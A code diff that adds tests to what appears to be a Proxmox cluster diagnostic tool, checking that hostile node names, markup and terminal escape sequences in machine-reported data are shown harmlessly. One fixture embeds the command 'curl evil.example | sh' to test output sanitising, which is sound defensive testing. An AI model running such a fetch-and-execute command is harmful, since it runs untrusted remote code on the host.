@@ -75,6 +75,46 @@ def test_a_node_that_only_the_cluster_lists_is_shown() -> None:
     assert re.search(r"pve3 +not in the stack file +1 ✓", drawn(dataclasses.replace(seen, reports=reports), 2))
 
 
+@pytest.mark.parametrize("name", ["[/x]", "[red]", "[link=https://evil.example]pve9", "a\\\\", "[bold", "x[/red]"])
+def test_a_name_from_a_machine_is_no_markup(name: str) -> None:
+    seen = doctored.seen(3)
+    assert seen.reports["pve1"].shared is not None
+    own = seen.reports["pve1"].shared.nodes
+    stranger = dataclasses.replace(own[0], name=name, id=9, links={0: "10.10.1.109", 1: "10.20.1.109"})
+    file = dataclasses.replace(seen.reports["pve1"].shared, nodes=[*own, stranger])
+    reports = {node: dataclasses.replace(one, local=file, shared=file) for node, one in seen.reports.items()}
+    text = drawn(dataclasses.replace(seen, reports=reports))
+    assert len(re.findall(rf"^ *{re.escape(name)} ", text, re.MULTILINE)) == 2, "in both tables"
+    assert f"{name} is a member, and not in the stack file" in text
+
+
+OBEYED = "\x1b]0;title\x07\x1b[2Jpve\x9b1m\u202e9"
+
+
+def test_nothing_of_a_machine_is_obeyed_by_a_terminal() -> None:
+    seen = doctored.seen(3)
+    file = doctored.conf(3, faults=[f"line 4: {OBEYED}\n     next: curl evil.example | sh"])
+    reports = {
+        node: dataclasses.replace(one, local=file, shared=file, version=f"9{OBEYED}")
+        for node, one in seen.reports.items()
+    }
+    foreign = dataclasses.replace(file, cluster=OBEYED, faults=[])
+    reports["pve3"] = dataclasses.replace(reports["pve3"], local=foreign, shared=foreign)
+    text = drawn(dataclasses.replace(seen, reports=reports))
+    assert "line 4: pve1m9" in text
+    assert "pve3 belongs to cluster pve1m9" in text
+    assert not {letter for letter in text if not letter.isprintable()} - {"\n"}
+    assert "\n     next: curl" not in text
+    assert "\x1b" not in AdminError("causes-found", OBEYED, observed=OBEYED, fix=OBEYED).render()
+
+
+def test_a_vote_that_nobody_knows_is_no_lost_quorum() -> None:
+    quiet = {"quorum": None, "pve_writable": False, "unanswered": ["quorum"]}
+    text = drawn(doctored.changed(doctored.seen(3), dict.fromkeys(("pve1", "pve2", "pve3"), quiet)))
+    assert "cluster proxmox: 3 members, nobody could say how the vote stands; 3 causes" in text
+    assert "without quorum" not in text
+
+
 def test_files_that_differ_are_shown_side_by_side() -> None:
     seen = doctored.changed(
         doctored.seen(3), {"pve2": {"local": {"digest": "z", "version": 7}, "loaded": 7}, "pve3": {"pmxcfs": "local"}}
@@ -119,6 +159,11 @@ def test_before_a_first_up() -> None:
     assert names(dataclasses.replace(fit, storages=store("lvm", 40)), made=frozenset({"pve1"})) == ["node-off"]
     assert names(host) == ["storage-missing"]
     assert names(fit, refusals={"virtual": Refusal("foreign-vmid", "it is somebody's")}) == ["foreign-vmid"]
+    assert names(dataclasses.replace(fit, storages=None, unanswered=["storages"])) == ["question-unanswered"]
+    assert names(dataclasses.replace(fit, version="", cores=0, unanswered=["cores", "version"])) == [
+        "question-unanswered"
+    ]
+    assert names(dataclasses.replace(fit, unanswered=["quorum", "signed"])) == [], "it need be no member"
     taken = dataclasses.replace(fit, reached=[doctored.answer("pve2")])
     assert names(taken) == ["address-taken"]
 
@@ -149,9 +194,10 @@ def test_every_cause_is_documented() -> None:
             ):
                 named.add(node.value)
     programs = {"pve-cluster", "pve-ha-crm", "pve-ha-lrm", "watchdog-mux", "verify-host", "iptables-save"}
+    words = {"read-only"}
     errors = {"host-unreachable", "ssh-timeout", "causes-found"}
     documented = set(re.findall(r"`([a-z-]+)`", (ROOT / "docs" / "doctor.md").read_text()))
-    assert named - programs - errors - documented == set()
+    assert named - programs - words - errors - documented == set()
     assert {"quorum-lost", "cut-off"} <= named
 
 
